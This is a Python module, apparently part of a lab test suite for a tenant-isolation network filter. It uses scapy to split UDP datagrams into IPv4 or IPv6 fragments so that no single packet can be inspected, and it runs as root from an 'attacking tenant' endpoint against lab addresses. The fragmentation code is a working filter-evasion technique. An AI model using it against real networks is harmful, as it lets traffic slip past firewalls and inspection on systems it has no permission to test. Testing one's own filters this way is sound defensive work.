"""Attack: send UDP datagrams in fragments, so that no single packet can be judged, to a target that would be allowed.

Runs in an endpoint of the attacking tenant, as its root:

    python -m ztdpu.lab.attacks.fragment --source 10.1.0.10 --target 10.1.0.11 --port 5005 --attempts 20

An attempt is a fragment, first or last. The twin sends whole datagrams.
"""

from __future__ import annotations

from ztdpu.lab.attacks.tenant_packets import Frame, Order, make_datagrams, network_layer, run

PIECE_OCTETS = 64
_UDP_HEADER_OCTETS = 8


def make_fragments(order: Order) -> list[Frame]:
    """Return two fragments of each datagram, IPv4 or IPv6; both carry the mark."""
    from scapy.layers.inet import UDP
    from scapy.packet import Raw

    piece = order.mark.ljust(PIECE_OCTETS, b".")
    frames: list[Frame] = []
    for number in range((order.attempts + 1) // 2):
        whole = network_layer(order) / UDP(sport=order.first_port + number, dport=order.port) / Raw(piece * 2)
        transport = bytes(bytes(whole)[-(_UDP_HEADER_OCTETS + 2 * PIECE_OCTETS) :])
        cut = _UDP_HEADER_OCTETS + PIECE_OCTETS
        frames += [_fragment(order, number, 0, transport[:cut]), _fragment(order, number, cut, transport[cut:])]
    return frames[: order.attempts]


def _fragment(order: Order, number: int, offset_octets: int, part: bytes) -> Frame:
    from scapy.layers.inet6 import IPv6ExtHdrFragment
    from scapy.packet import Raw

    layer, is_first = network_layer(order), offset_octets == 0
    if ":" in order.target:
        header = IPv6ExtHdrFragment(nh=17, offset=offset_octets // 8, m=int(is_first), id=number + 1)
        return Frame(bytes(layer / header / Raw(part)))
    layer.id, layer.proto, layer.frag, layer.flags = number + 1, 17, offset_octets // 8, "MF" if is_first else 0
    return Frame(bytes(layer / Raw(part)))


if __name__ == "__main__":
    run("Send datagrams in fragments.", make_fragments, make_datagrams)
